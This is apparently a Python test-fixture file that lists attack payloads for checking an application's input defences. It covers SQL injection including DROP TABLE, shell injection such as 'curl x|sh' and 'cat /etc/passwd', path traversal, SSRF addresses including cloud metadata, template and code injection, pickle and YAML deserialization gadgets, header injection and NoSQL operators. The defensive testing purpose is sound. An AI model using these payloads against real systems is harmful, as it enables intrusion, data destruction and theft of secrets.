# ruff: noqa: RUF001 - look-alikes are the point
"""Attacks by the place where they would work. Each is one that gets through somewhere; none may get through here."""

from __future__ import annotations

import base64
import gzip
import marshal
import os
import pickle
import subprocess
import zlib
from typing import Any
from urllib.parse import quote

INJECTION = "x' OR 'a'='a"

# (where the value stands in the statement, the value)
_QUOTED = [
    "' OR '1'='1", "' OR 1=1 --", "' OR 1=1#", "' OR 1=1/*", "admin'--", "admin' #", "admin'/*", "' OR ''='", "' OR 'x'='x' --", "') OR ('1'='1", "')) OR (('1'='1",
    "' or true--", "' || '1'='1", "' OR NOT 0 --", "' OR 2>1 --", "' OR 'a' LIKE 'a", "' OR 1 IN (1) --", "' OR 1 BETWEEN 0 AND 2 --", "x' AND 1=(SELECT COUNT(*) FROM users) --",
    "' oR 1=1 --", "' Or/**/1=1--", "'/**/OR/**/1=1--", "'\tOR\t1=1--", "'\nOR\n1=1--", "'\x0cOR\x0c1=1--", "' OR+1=1--", "'OR(1)=(1)--", "'||1=1--", "'&&1=1#", "'OR 1 --", "' OR 1 LIMIT 1 --",
    "' UNION SELECT 1 --", "' UNION ALL SELECT NULL,NULL --", "' union select sqlite_version() --", "' UNION SELECT name FROM users --", "' UnIoN SeLeCt sql FROM sqlite_master --",
    "'/*!UNION*//*!SELECT*/1 --", "'UNION(SELECT(name)FROM(users))--", "' UNION\nSELECT\nname\nFROM\nusers--", "' UNION SELECT char(97,100,109) --", "' UNION SELECT 0x61646d696e --",
    "' UNION SELECT x'61646d' --", "' UNION VALUES('a') --", "' EXCEPT SELECT 1 --", "' INTERSECT SELECT 'a' --", "' UNION SELECT group_concat(name) FROM users --",
    "'; DROP TABLE users; --", "'; DELETE FROM users WHERE 'a'='a", "';UPDATE users SET name='x'--", "'; INSERT INTO users VALUES (9,'x','y') --", "'; ATTACH DATABASE '/tmp/x.php' AS x; --", "';VACUUM--", "';SELECT pg_sleep(9)--",
    "'||(SELECT name FROM users LIMIT 1)||'", "'||randomblob(900000000)||'", "'||load_extension('x')||'", "' || sqlite_version() || '", "'+(SELECT 1)+'", "' AND substr((SELECT name FROM users),1,1)='A' --",
    "' AND (SELECT CASE WHEN 1=1 THEN 1 ELSE 0 END) --", "' AND 1=1 AND ''='", "' AND unicode(substr(name,1,1))>64 --", "' AND hex(name) LIKE '41%' --", "' AND name GLOB 'A*' --", "' HAVING 1=1 --", "' GROUP BY name HAVING 1=1 --",
    "' ORDER BY 9 --", "' OR EXISTS(SELECT 1) --", "' OR name IS NOT NULL --", "' OR name NOTNULL --", "' OR rowid=1 --", "' OR json_extract('{\"a\":1}','$.a')=1 --", "' OR '{\"a\":1}'->>'a'=1 --", "' OR json_valid('{}') --", "' OR json_array_length('[1]')=1 --",
    "%' OR '1'='1", "%' --", "_' OR name LIKE '%", "x' ESCAPE 'x' OR 1=1 --", "ǅ' OR 1=1 --", "İ' OR 1=1 --", "日本' OR '1'='1", "' OR 1=1 -- 日本",
]  # fmt: skip
_NUMERIC = [
    "1 OR 1=1", "1 OR 1", "1/**/OR/**/1=1", "1 or true", "-1 UNION SELECT name FROM users", "0 UNION ALL SELECT sql FROM sqlite_master", "1;DROP TABLE users", "1; DELETE FROM users", "1--", "1 --", "1/*", "1 AND 1=2", "(SELECT id FROM users)",
    "1 OR(1)=(1)", "id", "ID", "rowid", "1||1", "1 IN (1)", "1 IS NOT NULL", "1 LIMIT 1 OFFSET 1", "abs(1)", "sqlite_version()", "CASE WHEN 1=1 THEN 1 ELSE 2 END", "1 UNION VALUES(1)", "1 OR id>0", "1)OR(1=1", "0x1 OR 1", "1e0UNION SELECT 1", "1.UNION SELECT 1", "~1 OR 1", "NOT 0", "1 OR '{\"a\":1}'->>'a'=1",
    "1\nOR\n1=1", "1\tOR\t1=1", "1%20OR%201=1", "1+OR+1=1",
]  # fmt: skip
_ORDER = [
    "name; DROP TABLE users", "(CASE WHEN 1=1 THEN name ELSE id END)", "(SELECT name FROM users)", "name LIMIT 1", "name--", "name/*", "random()", "1,(SELECT 1)", "name,(SELECT sql FROM sqlite_master)", "name COLLATE NOCASE LIMIT 0",
    "iif(1=1,name,id)", "name DESC NULLS LAST LIMIT 1", "id+(SELECT 1)", "name)--", "abs(id)",
]  # fmt: skip
SQL = [
    *(("quoted", item) for item in _QUOTED),
    *(("number", item) for item in _NUMERIC),
    *(("sorted", item) for item in _ORDER),
]

# How a value is put before an application that undoes it.
CODINGS: dict[str, Any] = {
    "plain": lambda text: text,
    "url": lambda text: quote(text, safe=""),
    "url twice": lambda text: quote(quote(text, safe=""), safe=""),
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "base64 for URLs": lambda text: base64.urlsafe_b64encode(text.encode()).decode().rstrip("="),
    "base64 twice": lambda text: base64.b64encode(base64.b64encode(text.encode())).decode(),
    "base64 of url": lambda text: base64.b64encode(quote(text).encode()).decode(),
    "base32": lambda text: base64.b32encode(text.encode()).decode(),
    "hex": lambda text: text.encode().hex(),
    "entities": lambda text: "".join(f"&#{ord(char)};" for char in text),
    "entities in hex": lambda text: "".join(f"&#x{ord(char):x};" for char in text),
    "unicode escapes": lambda text: "".join(f"\\u{ord(char):04x}" for char in text),
}

_COMMANDS = ["; id", "&& id", "|| id", "| id", "& id", "\nid", "\rid\n", "`id`", "$(id)", "$(i''d)", "${IFS}", ";${IFS}id", "a;id", "a&&id", "a|id", "a&id", "a\nid", "a`id`", "a$(id)", "a;{id,}", "a>/tmp/x", "a</etc/passwd", "a>>x",
    "a;i\\d", "a;/???/id", "a;$'\\x69d'", "a;\"id\"", "a;'id'", "a #", "a;eval id", "a*", "a?", "[a]", "~root", "a{1,2}", "$HOME", "a;sleep 9", "$((1+1))", "<(id)", "a\\;id", "!!", "a && curl x|sh", "%3Bid", "a;\tid"]  # fmt: skip
COMMANDS = [
    *(("bare", item) for item in _COMMANDS),
    *(("double", item) for item in ('"; id; "', "`id`", "$(id)", '" | id "', "${PATH}", "$HOME", '"&id&"')),
    *(("single", item) for item in ("'; id; '", "'`id`'", "' | id '", "'\nid\n'", "'$(id)'")),
    *(("whole", item) for item in ("id", "whoami", "cat /etc/passwd", "/bin/id", "ls -la", "ls;id")),
    *(("program", item) for item in ("id", "/bin/id", "../bin/id")),
    *(("words", item) for item in ("cat /etc/passwd", "id -u")),
]

_PATHS = ["../secret.txt", "../../etc/passwd", "../../../../../../etc/passwd", "x/../../secret.txt", "./../secret.txt", "..//secret.txt", ".././secret.txt", "../files/../secret.txt", "/etc/passwd", "//etc/passwd", "/etc//passwd", "/etc/./passwd", "/proc/self/environ",
    "..", "../", "../..", "x/../..", "a/b/../../../secret.txt", "%2e%2e/secret.txt", "..%2fsecret.txt", "%2e%2e%2fsecret.txt", "..%252fsecret.txt", "../secret.txt?x", "../secret.txt#", "../%73ecret.txt", "../SECRET.txt"]  # fmt: skip
PATHS = [
    *(("file", item) for item in _PATHS),
    *(("joined", item) for item in _PATHS if not item.startswith("/")),
    *(
        ("cleaned", item)
        for item in ("....//secret.txt", "....//....//etc/passwd", "..././secret.txt", "....//")
    ),
    *(("suffixed", item) for item in ("../secret", "/etc/passwd", "../../etc/host")),
    *(("listed", item) for item in ("..", "/etc", "../..", "/")),
    *(("there", item) for item in ("../secret.txt", "/etc/passwd")),
    *(("backslashes", item) for item in ("..\\secret.txt", "..\\..\\etc\\passwd")),
    *(("removed", item) for item in ("../secret.txt", "/tmp/nothing-here")),
    *(("home", item) for item in ("~/x", "~root/x")),
]

ADDRESSES = ["127.0.0.1", "localhost", "LOCALHOST", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.0.0.1", "0177.0.0.1", "017700000001", "0", "0.0.0.0", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:127.0.0.1]", "[0:0:0:0:0:0:0:1]",
    "127.0.0.2", "127.127.127.127", "user@127.0.0.1", "user:word@127.0.0.1", "good.example@localhost", "localhost.", "ⓛⓞⓒⓐⓛⓗⓞⓢⓣ", "１２７.０.０.１", "loop.example", "LOOP.example", "a.b.loop.example"]  # fmt: skip
# Only judged, never asked for.
INTERNAL = [
    "169.254.169.254",
    "10.0.0.1",
    "192.168.1.1",
    "172.16.0.1",
    "100.64.0.1",
    "::ffff:10.0.0.1",
    "64:ff9b::a00:1",
    "fd00::1",
    "fe80::1",
    "2002:a00:1::",
]
TEMPLATES = ["{{7*7}}", "{{ 7*7 }}", "{{''.__class__}}", "{{config}}", "{{ config.items() }}", "{{self}}", "{{request.application.__globals__}}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{% print 1 %}", "{%print(1)%}", "{%- if 1 -%}x{%- endif -%}",
    "{% for x in [1] %}{% endfor %}", "{% set x = 1 %}", "{% include '/etc/passwd' %}", "{% raw %}{% endraw %}", "{#", "{# x #}", "x{{7*'7'}}", "{{\"a\"|upper}}", "{{[]|attr('__cl''ass__')}}", "{{()['\\x5f\\x5fclass\\x5f\\x5f']}}", "{{7*7", "%7B%7B7*7%7D%7D", "{{lipsum}}", "{%if 1%}1{%endif%}"]  # fmt: skip
CODE = ["__import__('os').system('id')", "().__class__.__bases__", "[x for x in (1,)]", "open('/etc/passwd').read()", "exit()", "1+len('a')", "9**9**9", "1 if 1 else 2", "lambda: 0", "(1).__class__", "'a'.upper()", "request", "app", "print(1)", "f'{1+1}'", "1;2"]  # fmt: skip


class _Runs:
    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, ("true",)


class _Evaluates:
    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return eval, ("1",)


class _Starts:
    def __reduce__(self) -> tuple[Any, tuple[list[str]]]:
        return subprocess.check_output, (["true"],)


def _text(data: bytes) -> str:
    return base64.b64encode(data).decode()


_P = [pickle.dumps(item(), protocol) for item in (_Runs, _Evaluates, _Starts) for protocol in (0, 2, 5)]
OBJECTS = [
    *(("pickle", _text(data)) for data in _P),
    ("pickle", base64.urlsafe_b64encode(_P[0]).decode()),
    ("trimmed", _text(_P[2]).rstrip("=") + "A"),
    ("pickle", _text(b"cos\nsystem\n(S'true'\ntR.")),
    ("packed", _text(zlib.compress(_P[2]))),
    ("packed", _text(gzip.compress(_P[5], mtime=0))),
    ("hexed", _P[1].hex()),
    ("marshal", _text(marshal.dumps(compile("1+1", "x", "eval")))),
    *(("yaml", item) for item in ("!!python/object/apply:os.system ['true']", "!!python/name:os.system", "!!python/object/new:os.system ['true']", "a: !!python/module:os", "[!!python/object/apply:eval ['1']]",
        "!<tag:yaml.org,2002:python/object/apply:os.system> ['true']")),
]  # fmt: skip
HEADERS = ["a\r\nSet-Cookie: x=1", "a\nSet-Cookie: x=1", "a\rSet-Cookie: x=1", "\r\nLocation: https://x.example", "a\r\n\r\n<script>", "a%0d%0aSet-Cookie:x=1", "a%0aX: 1", "\nX: 1", "a\r\n X: 1", "x\r\nContent-Length: 0\r\n\r\n", "a\n\n<b>", "a\n\tX: 1"]  # fmt: skip
MAIL = [f"subject{sign}{line}" for sign in ("\r\n", "\n") for line in ("Bcc: x@example.org", "To: y@example.org", "Content-Type: text/html", "\r\n<b>other</b>", "From: boss@example.org")]  # fmt: skip
OPERATORS = [{"$ne": None}, {"$ne": ""}, {"$gt": ""}, {"$gte": ""}, {"$regex": ".*"}, {"$in": ["admin", "root"]}, {"$nin": []}, {"$exists": True}, {"$not": {"$eq": "x"}}, {"$where": "1"}, {"$type": 2}, {"$expr": {"$eq": [1, 1]}}, {"$or": [{}, {"a": 1}]}]  # fmt: skip
SCRIPTS = [
    "' || '1'=='1",
    "'; return true; var x='",
    "x' || true || '",
    "';sleep(9);'",
    "' && this.password.match(/.*/) || '",
    "\\' || 1==1 || '",
]
# On real servers: in a statement, and what a parameter may be.
BOUND = [
    "Ada",
    "O'Brien",
    "x' OR 'a'='a",
    "select name from person",
    "50% -- or so; \\ and /* more */",
    "日本 'x'",
]
ON_SERVERS = [
    INJECTION,
    "' OR 1=1 -- ",
    "' UNION SELECT version() -- ",
    "'; DROP TABLE person; -- ",
    "'||(SELECT name FROM person)||'",
    "' OR '{\"a\":1}' <> '' -- ",
]
